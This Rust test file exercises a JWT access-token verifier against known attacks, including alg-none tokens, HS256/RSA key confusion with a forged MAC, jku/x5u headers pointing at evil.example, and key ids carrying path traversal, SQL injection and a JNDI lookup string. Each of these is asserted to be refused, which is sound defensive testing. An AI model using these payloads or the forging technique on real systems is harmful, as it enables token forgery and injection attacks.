use serde_json::json;

use super::*;
use crate::{
    Audience, Confirmation,
    fixture::{self, AUDIENCE, ISSUER, NOW, Token, bytes, sign, sign_es256_as_der, sign_texts, verifier},
};

/// The cause of the refusal by a verifier that differs from the usual one in nothing.
fn fault(token: &str) -> Option<TokenError> {
    verifier().verify(token, NOW).err()
}

#[test]
fn good_tokens_of_every_algorithm_are_verified() {
    for algorithm in Algorithm::ALL {
        let token = Token::with_algorithm(algorithm).signed_by(algorithm);
        let claims = verifier().verify(&token, NOW);
        assert_eq!(claims.as_ref().map(|claims| claims.jti.as_str()), Ok("token-1"), "{algorithm}");
    }
    let renamed = Token::good().header("alg", "Ed25519").signed();
    assert_eq!(fault(&renamed), None);
}

#[test]
fn the_token_of_the_documentation_is_verified() {
    let jwk = fixture::jwk(Algorithm::EdDsa).with_kid("2026-01");
    let keys = crate::KeySet::from(crate::JwkSet { keys: vec![jwk] });
    let token = include_str!("../example.jwt").trim();
    assert!(Verifier::new(ISSUER, AUDIENCE, keys).verify(token, NOW).is_ok());
}

#[test]
fn an_algorithm_that_is_not_allowed_is_refused() {
    let only_es256 = verifier().algorithms(&[Algorithm::Es256]);
    let token = Token::good().signed();
    assert_eq!(only_es256.verify(&token, NOW), Err(TokenError::AlgorithmNotAllowed));
}

/// CVE-2015-9235 and CVE-2022-23540.
#[test]
fn tokens_that_say_none_are_refused_in_every_spelling() {
    for name in ["none", "None", "NONE", "nOnE", "", " none"] {
        let token = Token::good().header("alg", name).signed();
        assert_eq!(fault(&token), Some(TokenError::AlgorithmNotAllowed), "{name:?}");
        let unsigned = token.rsplit_once('.').map(|(signed, _)| format!("{signed}."));
        assert_eq!(unsigned.as_deref().and_then(fault), Some(TokenError::NotCompact));
    }
}

/// CVE-2015-9235 and CVE-2022-23541.
#[test]
fn a_public_key_is_not_a_shared_secret() {
    // The classic confusion: HS256 with the published RSA modulus as the secret.
    let secret = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, &bytes(fixture::RSA_N));
    for alg in ["HS256", "hs256", "RS256"] {
        let unsigned = Token::with_algorithm(Algorithm::Rs256).header("alg", alg).signed();
        let signed = unsigned.rsplit_once('.').map_or("", |(signed, _)| signed);
        let mac = aws_lc_rs::hmac::sign(&secret, signed.as_bytes());
        let token = format!("{signed}.{}", crate::base64url::encode(mac));
        assert!(verifier().verify(&token, NOW).is_err(), "{alg}");
    }
}

/// CVE-2022-23539.
#[test]
fn the_algorithm_must_be_that_of_the_key() {
    for claimed in Algorithm::ALL {
        for key in Algorithm::ALL {
            let token = Token::with_algorithm(claimed).header("kid", key.as_str()).signed_by(claimed);
            let expected = (claimed != key).then_some(TokenError::AlgorithmMismatch);
            assert_eq!(fault(&token), expected, "{claimed} with a key for {key}");
        }
    }
}

/// CVE-2018-0114.
#[test]
fn headers_that_bring_keys_or_extensions_are_refused() {
    let own_key = serde_json::to_value(fixture::jwk(Algorithm::EdDsa)).unwrap_or_default();
    for (name, value) in [
        ("jwk", own_key),
        ("jku", json!("https://evil.example/jwks")),
        ("x5u", json!("https://evil.example/chain")),
        ("x5c", json!(["AA"])),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
    ] {
        let token = Token::good().header(name, value).signed();
        assert_eq!(fault(&token), Some(TokenError::ForbiddenHeader(name)));
    }
    let unknown_but_harmless = Token::good().header("x-trace", 1).signed();
    assert_eq!(fault(&unknown_but_harmless), None);
}

#[test]
fn only_access_tokens_are_access_tokens() {
    for typ in ["at+jwt", "AT+JWT", "application/at+jwt"] {
        assert_eq!(fault(&Token::good().header("typ", typ).signed()), None, "{typ}");
    }
    for typ in ["JWT", "dpop+jwt", "token-introspection+jwt", "client-authentication+jwt", "at+jwt,JWT", ""] {
        assert_eq!(fault(&Token::good().header("typ", typ).signed()), Some(TokenError::WrongType), "{typ}");
    }
    assert_eq!(fault(&Token::good().without_header("typ").signed()), Some(TokenError::WrongType));
}

#[test]
fn a_key_id_is_needed_and_is_short() {
    for (kid, cause) in [
        (String::new(), TokenError::KeyIdMissing),
        ("k".repeat(128), TokenError::UnknownKey),
        ("k".repeat(129), TokenError::KeyIdTooLong),
        ("k".repeat(5 * 1024), TokenError::KeyIdTooLong),
        ("k".repeat(10 * 1024), TokenError::TooLong),
        ("../../etc/passwd".into(), TokenError::UnknownKey),
        ("' OR '1'='1".into(), TokenError::UnknownKey),
        ("EdDSA\0".into(), TokenError::UnknownKey),
    ] {
        assert_eq!(fault(&Token::good().header("kid", kid).signed()), Some(cause));
    }
    assert_eq!(fault(&Token::good().without_header("kid").signed()), Some(TokenError::KeyIdMissing));
    let wrong_type = Token::good().header("kid", json!(["EdDSA"])).signed();
    assert_eq!(fault(&wrong_type), Some(TokenError::Malformed(Part::Header)));
}

#[test]
fn a_bit_flipped_in_any_part_is_noticed() {
    for algorithm in Algorithm::ALL {
        let token = Token::with_algorithm(algorithm).signed_by(algorithm);
        for (index, _) in token.char_indices() {
            let mut changed = token.clone().into_bytes();
            if let Some(byte) = changed.get_mut(index) {
                *byte ^= 1;
            }
            let changed = String::from_utf8(changed).unwrap_or_default();
            assert!(verifier().verify(&changed, NOW).is_err(), "{algorithm}, byte {index}");
        }
    }
}

#[test]
fn a_signature_of_other_claims_does_not_serve() {
    let good = Token::good().signed();
    let other = Token::good().claim("tenant_id", "tenant-2").signed();
    let mixed = match (good.rsplit_once('.'), other.rsplit_once('.')) {
        (Some((_, signature)), Some((signed, _))) => format!("{signed}.{signature}"),
        _ => String::new(),
    };
    assert_eq!(fault(&mixed), Some(TokenError::Signature));
}

#[test]
fn es256_signatures_of_zeros_and_in_der_are_refused() {
    let token = Token::with_algorithm(Algorithm::Es256).signed_by(Algorithm::Es256);
    let signed = token.rsplit_once('.').map_or("", |(signed, _)| signed);
    for signature in [vec![0; 64], sign_es256_as_der(signed.as_bytes()), vec![0; 1]] {
        let changed = format!("{signed}.{}", crate::base64url::encode(signature));
        assert_eq!(fault(&changed), Some(TokenError::Signature));
    }
    let again = format!("{signed}.{}", crate::base64url::encode(sign(Algorithm::Es256, signed.as_bytes())));
    assert_eq!(fault(&again), None);
}

#[test]
fn padding_whitespace_and_other_serializations_are_refused() {
    let token = Token::good().signed();
    let json = token.split_once('.').and_then(|(header, rest)| {
        let (claims, signature) = rest.split_once('.')?;
        Some(format!(r#"{{"protected":"{header}","payload":"{claims}","signature":"{signature}"}}"#))
    });
    let spaced = token.replace('.', " . ");
    for wrong in [
        format!("{token}="),
        format!("{token}=="),
        format!(" {token}"),
        format!("{token}\n"),
        format!("{token}\u{a0}"),
        format!("{token}."),
        format!(".{token}"),
        format!("Bearer {token}"),
        spaced,
        token.replacen('.', "=.", 1),
        token.replacen('.', "", 1),
        json.unwrap_or_default(),
        String::new(),
    ] {
        assert!(verifier().verify(&wrong, NOW).is_err(), "{wrong}");
        assert!(danger_decode_without_verifying(&wrong).is_err(), "{wrong}");
    }
}

#[test]
fn bits_behind_the_last_byte_are_not_ignored() {
    // The 64 bytes of a signature end in a character of which four bits count; the other spellings are refused.
    let token = Token::good().signed();
    let Some((rest, last)) = token.split_at_checked(token.len() - 1) else {
        unreachable!("the token is longer than one character")
    };
    let spellings = ["A", "B", "C", "D", "Q", "R", "g", "h", "w", "x"];
    for spelling in spellings.into_iter().filter(|spelling| *spelling != last) {
        assert!(verifier().verify(&format!("{rest}{spelling}"), NOW).is_err());
    }
}

const HEADER: &str = r#"{"typ":"at+jwt","alg":"EdDSA","kid":"EdDSA"}"#;
const CLAIMS: &str = r#"{"iss":"https://auth.example","sub":"s","aud":"https://api.example","exp":1800000300,"iat":1800000000,"jti":"j","client_id":"c"}"#;

fn of_texts(header: &str, claims: &str) -> Option<TokenError> {
    fault(&sign_texts(Algorithm::EdDsa, header, claims))
}

#[test]
fn members_given_twice_are_refused() {
    assert_eq!(of_texts(HEADER, CLAIMS), None);
    for more in [r#","alg":"EdDSA"}"#, r#","\u0061lg":"none"}"#, r#","kid":"x"}"#, r#","other":1,"other":1}"#] {
        let header = HEADER.replace('}', more);
        assert_eq!(of_texts(&header, CLAIMS), Some(TokenError::DuplicateMember(Part::Header)), "{header}");
    }
    for more in [
        r#","exp":1800000300}"#,
        r#","au\u0064":"https://other.example"}"#,
        r#","plan":1,"plan":2}"#,
        r#","cnf":{"jkt":"a","jkt":"b"}}"#,
    ] {
        let claims = CLAIMS.replace('}', more);
        assert_eq!(of_texts(HEADER, &claims), Some(TokenError::DuplicateMember(Part::Claims)), "{claims}");
    }
}

#[test]
fn parts_that_are_not_json_objects_are_malformed() {
    for text in ["", "{", "[]", "null", "1", r#""x""#, "{}{}", "\u{feff}{}", r#"["at+jwt","EdDSA","EdDSA"]"#] {
        assert!(of_texts(text, CLAIMS).is_some(), "{text}");
        assert!(of_texts(HEADER, text).is_some(), "{text}");
    }
    let in_array = of_texts(HEADER, &format!("[{CLAIMS}]"));
    assert_eq!(in_array, Some(TokenError::Malformed(Part::Claims)));
    let deep = CLAIMS.replace('}', &format!(r#","deep":{}{}}}"#, "[".repeat(1000), "]".repeat(1000)));
    assert_eq!(of_texts(HEADER, &deep), Some(TokenError::Malformed(Part::Claims)));
}

#[test]
fn another_issuer_is_refused() {
    for iss in ["https://auth.example/", "https://AUTH.example", "http://auth.example", "https://auth.example.evil", ""] {
        assert_eq!(fault(&Token::good().claim("iss", iss).signed()), Some(TokenError::WrongIssuer), "{iss}");
    }
    let two = Token::good().claim("iss", json!([ISSUER])).signed();
    assert_eq!(fault(&two), Some(TokenError::Malformed(Part::Claims)));
}

/// CVE-2020-14389.
#[test]
fn the_audience_must_name_this_resource_server() {
    for aud in [json!(AUDIENCE), json!([AUDIENCE]), json!(["https://other.example", AUDIENCE])] {
        assert_eq!(fault(&Token::good().claim("aud", aud).signed()), None);
    }
    for aud in [json!("https://other.example"), json!([]), json!(""), json!([""]), json!("https://api.example/v1")] {
        assert_eq!(fault(&Token::good().claim("aud", aud).signed()), Some(TokenError::WrongAudience));
    }
    let malformed = Token::good().claim("aud", json!({AUDIENCE: true})).signed();
    assert_eq!(fault(&malformed), Some(TokenError::Malformed(Part::Claims)));

    let second = Token::good().claim("aud", "https://second.example").signed();
    let verifier = verifier().accept_audience("https://second.example");
    let aud = verifier.verify(&second, NOW).map(|claims| claims.aud);
    assert_eq!(aud, Ok(Audience::One("https://second.example".into())));
}

#[test]
fn a_missing_or_empty_claim_is_named() {
    for name in ["iss", "sub", "aud", "exp", "iat", "jti", "client_id"] {
        let token = Token::good().without_claim(name).signed();
        assert_eq!(fault(&token), Some(TokenError::ClaimMissing(name)));
        let token = Token::good().claim(name, json!(null)).signed();
        assert_eq!(fault(&token), Some(TokenError::Malformed(Part::Claims)), "{name}");
    }
    for name in ["sub", "jti", "client_id"] {
        let token = Token::good().claim(name, "").signed();
        assert_eq!(fault(&token), Some(TokenError::ClaimEmpty(name)));
    }
}

#[test]
fn times_count_to_the_second_with_the_leeway() {
    for (claim, offset, cause) in [
        ("exp", -29, None),
        ("exp", -30, Some(TokenError::Expired)),
        ("exp", -31, Some(TokenError::Expired)),
        ("nbf", 30, None),
        ("nbf", 31, Some(TokenError::NotYetValid)),
        ("iat", 30, None),
        ("iat", 31, Some(TokenError::IssuedInFuture)),
    ] {
        let token = Token::good().claim(claim, NOW + offset).signed();
        assert_eq!(fault(&token), cause, "{claim} {offset}");
    }
}

#[test]
fn the_leeway_can_be_nothing_and_at_most_five_minutes() {
    let expired_for = |seconds: i64| Token::good().claim("exp", NOW - seconds).signed();
    let strict = verifier().leeway_seconds(0);
    assert_eq!(strict.verify(&expired_for(0), NOW), Err(TokenError::Expired));
    assert!(strict.verify(&expired_for(-1), NOW).is_ok());
    let lenient = verifier().leeway_seconds(u32::MAX);
    assert!(lenient.verify(&expired_for(299), NOW).is_ok());
    assert_eq!(lenient.verify(&expired_for(300), NOW), Err(TokenError::Expired));
}

#[test]
fn times_at_the_ends_of_the_range_do_not_wrap() {
    for (claim, time, cause) in [
        ("exp", i64::MAX, None),
        ("exp", i64::MIN, Some(TokenError::Expired)),
        ("nbf", i64::MAX, Some(TokenError::NotYetValid)),
        ("nbf", i64::MIN, None),
        ("iat", i64::MAX, Some(TokenError::IssuedInFuture)),
        ("iat", i64::MIN, None),
    ] {
        assert_eq!(fault(&Token::good().claim(claim, time).signed()), cause, "{claim} {time}");
    }
    let token = Token::good().signed();
    assert_eq!(verifier().verify(&token, i64::MAX), Err(TokenError::Expired));
    assert_eq!(verifier().verify(&token, i64::MIN), Err(TokenError::IssuedInFuture));
    let endless = Token::good().claim("exp", i64::MAX).claim("nbf", NOW).signed();
    assert!(verifier().verify(&endless, i64::MAX).is_ok());
}

#[test]
fn times_that_are_not_whole_seconds_are_malformed() {
    for exp in [json!(1.8e9), json!("1800000300"), json!(u64::MAX), json!([1_800_000_300])] {
        let token = Token::good().claim("exp", exp).signed();
        assert_eq!(fault(&token), Some(TokenError::Malformed(Part::Claims)));
    }
}

#[test]
fn a_token_bound_to_a_key_is_no_bearer_token() {
    let token = Token::good().claim("cnf", json!({"jkt": "kPrK_qmxVWaYVA9wwBF6Iuo3vVzz7TxHCTwXBygrS4k"})).signed();
    assert_eq!(fault(&token), Some(TokenError::SenderConstrained));
    let claims = verifier().accept_sender_constrained().verify(&token, NOW);
    let confirmation = claims.ok().and_then(|claims| claims.cnf);
    let jkt = Some("kPrK_qmxVWaYVA9wwBF6Iuo3vVzz7TxHCTwXBygrS4k".to_owned());
    assert_eq!(confirmation, Some(Confirmation { jkt, x5t_s256: None }));
}

#[test]
fn claims_are_not_judged_before_the_signature() {
    let token = Token::good().claim("exp", 0).claim("iss", "x").signed_by(Algorithm::Es256);
    assert_eq!(fault(&token), Some(TokenError::Signature));
}

#[test]
fn decoding_without_verifying_shows_what_verifying_refuses() {
    let token = Token::good().header("alg", "none").header("jku", "https://evil.example").claim("exp", 0);
    let shown = danger_decode_without_verifying(&token.signed());
    let shown = shown.map(|(header, claims)| (header.alg, claims.exp));
    assert_eq!(shown, Ok(("none".to_owned(), 0)));
}

#[test]
fn no_error_quotes_the_token() {
    let token = Token::good().claim("exp", "s3cret-value").signed();
    let Some(cause) = fault(&token) else { unreachable!("a time that is text is refused") };
    assert!(!format!("{cause} {cause:?}").contains("s3cret"));
}

#[test]
fn an_opaque_token_is_named_as_such() {
    for token in ["mmt_0aZ", "mmt_a.b.c"] {
        assert_eq!(fault(token), Some(TokenError::Opaque));
        assert_eq!(danger_decode_without_verifying(token).err(), Some(TokenError::Opaque));
    }
    assert_eq!(fault("mmt"), Some(TokenError::NotCompact));
}

/// Hazard 24. A key id is a key into a map and nothing else.
#[test]
fn a_key_id_that_is_meant_for_something_else_names_no_key() {
    for kid in [
        "../../../../etc/passwd",
        "/dev/null",
        "' OR '1'='1",
        "1; DROP TABLE keys; --",
        "https://evil.example/jwks",
        "EdDSA\0",
        "EdDSA ",
        " EdDSA",
        "eddsa",
        "*",
        "%45dDSA",
        "${jndi:ldap://evil.example/a}",
        "\u{202e}EdDSA",
    ] {
        assert_eq!(fault(&Token::good().header("kid", kid).signed()), Some(TokenError::UnknownKey), "{kid:?}");
    }
    for number in 0..10_000 {
        assert_eq!(fault(&Token::good().header("kid", format!("EdDSA-{number}")).signed()), Some(TokenError::UnknownKey));
    }
}
